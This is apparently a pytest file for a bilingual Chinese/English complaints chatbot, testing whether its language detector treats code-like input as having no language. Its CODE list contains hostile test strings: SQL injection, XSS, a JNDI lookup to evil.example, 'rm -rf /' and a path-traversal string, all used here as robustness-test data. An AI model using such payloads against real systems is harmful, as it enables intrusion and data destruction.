"""Which language a message is in."""
from __future__ import annotations

import pytest

from bot.language.detect import language_of


@pytest.mark.parametrize("previous", ["zh", "en"])
@pytest.mark.parametrize(("text", "language"), [
    ("排队等了一个小时", "zh"), ("app 打不开", "zh"), ("投诉", "zh"), ("我的 iPhone 登录不了 app", "zh"),
    ("the 柜员 was rude to me", "en"), ("top complaint categories in 城东 this quarter", "en"),
    ("I waited an hour", "en"), ("help", "en"), ("Refund?", "en"), ("[PHONE] 一直没人接", "zh"),
    ("call [PHONE] and nobody answers", "en"), ("/explain_term 什么是帕累托", "zh"),
])
def test_a_message_with_words_has_one_language_whatever_came_before(text, language, previous):
    assert language_of(text, previous) == language


@pytest.mark.parametrize("previous", ["zh", "en"])
@pytest.mark.parametrize("text", [
    "", "  \n", "50", "2026-03-31", "😡😡", "ok", "OK!", "no", "[NAME] [PHONE]", "/affirm", "１２３", "？？？",
    "\u200b\u202e", "12.5%", "C12"])
def test_a_message_without_words_keeps_the_language(text, previous):
    assert language_of(text, previous) == previous


def test_hostile_input_has_a_language(hostile):
    assert language_of(hostile) in ("zh", "en")


def test_when_both_weigh_the_same_the_talk_goes_on_as_it_was():
    assert language_of("VIP 客户", "zh") == "zh"
    assert language_of("重做 app login", "zh") == "zh"
    assert language_of("重做 app login", "en") == "en"


CODE = [
    "select * from complaints", "'; drop table complaints;--", "SELECT topic, COUNT(*) FROM complaints GROUP BY topic ORDER BY 2",
    "select text from complaints", "1' or '1'='1", "x' OR 1=1 --", "admin'--", "' UNION SELECT name, text FROM people --",
    "delete from complaints", "update complaints set topic='x' where id=1", "insert into people values ('x')", "DROP TABLE people",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}} ${jndi:ldap://evil.example/a}",
    '{"intent": "show_cases", "number": 12}', "rm -rf /", "import os; os.system('ls')", "for i in range(10): print(i)",
    "../../etc/passwd", "https://example.com/login?next=home", "def f(x): return x + 1", "curl -s http://localhost:8080/chat",
    "if (a == b) { return null; }", "pip install --upgrade rasa", "```\nselect the rows\n```"]


@pytest.mark.parametrize("previous", ["zh", "en"])
@pytest.mark.parametrize("text", CODE)
def test_code_has_no_language(text, previous):
    assert language_of(text, previous) == previous


@pytest.mark.parametrize(("text", "language"), [
    ("帮我执行 SELECT topic, COUNT(*) FROM complaints GROUP BY topic", "zh"),
    ("please run this for me now: select * from complaints", "en"), ("<p>I waited an hour and nobody came</p>", "en"),
    ("<p>等了一个小时没人来</p>", "zh"), ("Select the best service from the list of branches", "en"),
    ("delete from my account the fee of 20 yuan", "en"), ("please update my record and set a date", "en"),
    ("Fee: $20 (not $10) & more", "en"), ("**Refund now**", "en"), ("waited 50 minutes; nobody came; then closed", "en"),
    ("drop the table in the corner, it is broken", "en"), ("show P2 × slow handling", "en")])
@pytest.mark.parametrize("previous", ["zh", "en"])
def test_words_around_code_and_prose_that_looks_like_it_keep_theirs(text, language, previous):
    assert language_of(text, previous) == language


def test_no_training_line_is_taken_for_code():
    import yaml

    from bot.language.code import without_code
    from bot.settings import ROOT

    lines = [line[2:].strip() for path in sorted((ROOT / "data" / "nlu").glob("*.yml"))
             for intent in yaml.safe_load(path.read_text("utf-8"))["nlu"] for line in intent["examples"].splitlines()]
    words = [line for line in lines if sum(sign.isalpha() for sign in line) > 3]
    assert len(words) > 3000
    assert [line for line in words if not any(sign.isalpha() for sign in without_code(line))
            and "select " not in line.lower() and "drop " not in line.lower()] == []


@pytest.mark.parametrize("part", ["a", "select a,", "<", "(", "a_", "{", "a(", "a -", "a.a", "${", "`", "' ", "from "])
def test_long_runs_of_signs_are_read_too(part):
    assert language_of(part * 4000, "zh") in ("zh", "en")
